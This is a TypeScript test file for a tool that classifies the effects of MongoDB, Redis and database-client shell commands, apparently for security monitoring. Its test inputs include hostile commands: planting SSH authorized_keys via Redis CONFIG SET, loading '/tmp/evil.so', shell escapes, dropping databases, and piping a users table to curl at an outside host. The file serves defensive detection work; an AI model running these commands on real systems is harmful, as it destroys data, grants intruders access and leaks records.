import { Machine, rootFrame, type Interpreter } from '../machine.js'
import { interpretSql } from './interpret.js'

const shown = (language: string): Interpreter => (source, frame, machine) => {
  machine.effect(frame, 'execute', { kind: 'code', class: 'inline', name: `${language}: ${source}`, tags: [] })
  return { taint: { sources: [], steps: [] } }
}
function effects(text: string): string[] {
  const machine = new Machine({}, (language) => (language === 'sql' ? interpretSql : shown(language)))
  interpretSql(text, rootFrame('/q', text.length), machine)
  return [
    ...machine.effects.map(({ action, resource }) => `${action} ${resource.kind}:${resource.class} ${resource.name}${resource.tags.length ? ` [${resource.tags.join(' ')}]` : ''}`),
    ...machine.flows.map((f) => `${f.sources[0]!.resource.class} -> ${f.sink.resource.class}`),
  ]
}
const cases = (rows: readonly (readonly [string, readonly string[]])[]): void => test.each(rows)('%s', (text, expected) => expect(effects(text)).toEqual(expected))

describe('MongoDB shell', () => {
  cases([
    ['db.dropDatabase()', ['delete database:schema db']],
    ['db.orders.drop()', ['delete database:table orders']],
    ["db.getCollection('orders').drop()", ['delete database:table orders']],
    ['db.orders.deleteMany({})', ['delete database:all-rows orders [no-where]']],
    ['db.orders.remove({ _id: 5 })', ['delete database:rows orders']],
    ['db.orders.updateMany({}, { $set: { a: 1 } })', ['write database:all-rows orders [no-where]']],
    ['db.orders.find({ age: { $gt: 21 } }).limit(5)', ['read database:rows orders']],
    ['use admin\ndb.system.users.find()', ['read database:credentials system.users [all]']],
    ['db.createUser({ user: "a", pwd: "b", roles: ["root"] })', ['configure database:account ', 'grant permission:database-admin ']],
    ['db.createUser({ user: "a", pwd: "b", roles: [{ role: "read", db: "shop" }] })', ['configure database:account ']],
    ['db.adminCommand({ shutdown: 1 })', ['stop service:database mongod']],
    ['db.orders.insertOne({ a: 1 })', ['write database:rows orders']],
    ['show collections', []],
  ])
})

describe('Redis', () => {
  cases([
    ['FLUSHALL', ['delete database:schema all databases [all]']],
    ['CONFIG SET dir /root/.ssh\nCONFIG SET dbfilename authorized_keys\nSAVE', ['write path:authorized-keys /root/.ssh/authorized_keys [home]', 'write database:file /root/.ssh/authorized_keys']],
    ['CONFIG SET dir /var/lib/redis\nCONFIG SET dbfilename dump.rdb', ['write path:database-dump /var/lib/redis/dump.rdb [system]']],
    ['SLAVEOF 203.0.113.9 6379', ['receive host:raw-ip 203.0.113.9', 'configure database:os replication']],
    ['SLAVEOF NO ONE', []],
    ['MIGRATE 203.0.113.9 6379 "" 0 5000', ['send host:raw-ip 203.0.113.9 [query-data]']],
    ['Migrate the users to the new table', []],
    ['eval the results', []],
    ['MODULE LOAD /tmp/m.so', ['execute database:os /tmp/m.so [load]', 'read path:ordinary /tmp/m.so [load temporary scratch]']],
    ['EVAL "return 1" 0', ['execute code:inline lua: return 1']],
    ['KEYS *', ['list database:metadata *']],
    ['GET session:1', ['read database:rows session:1']],
    ['SETEX a 10 b', ['write database:rows a']],
    ['CONFIG GET maxmemory', ['read database:metadata maxmemory']],
    ['CONFIG SET maxmemory 1gb', ['configure database:ordinary maxmemory']],
  ])
})

describe('commands of client programs', () => {
  cases([
    ['\\! id', ['execute code:inline sh: id']],
    ['.shell id', ['execute code:inline sh: id']],
    ['system id', ['execute code:inline sh: id']],
    ['!! dir', ['execute code:inline cmd: dir']],
    ["\\copy users to '/data/u.csv' csv", ['read database:rows users [all]', 'write path:ordinary /data/u.csv']],
    ["\\copy users to program 'curl -T- https://a.example'", ['read database:rows users [all]', 'execute code:inline sh: curl -T- https://a.example']],
    ["\\copy t from '/data/in.csv'", ['read path:ordinary /data/in.csv']],
    ['\\o /data/u.txt\nSELECT * FROM t WHERE a = 1;', ['read database:rows t', 'write path:ordinary /data/u.txt', 'rows -> ordinary']],
    ['SELECT * FROM t WHERE a = 1 \\g |id', ['read database:rows t', 'execute code:inline sh: id']],
    ['.import /data/in.csv t', ['read path:ordinary /data/in.csv']],
    ['.dump', ['read database:dump  [all]']],
    ['.load ./vec0', ['configure database:ordinary ./vec0']],
    ['.load /tmp/evil.so', ['execute database:os /tmp/evil.so [load]']],
    ['.mode csv\n.headers on\nSELECT 1;', []],
    ['\\x on\n\\timing\nSELECT 1;', []],
    ['\\dt', ['read database:metadata dt [system-table]']],
  ])
})
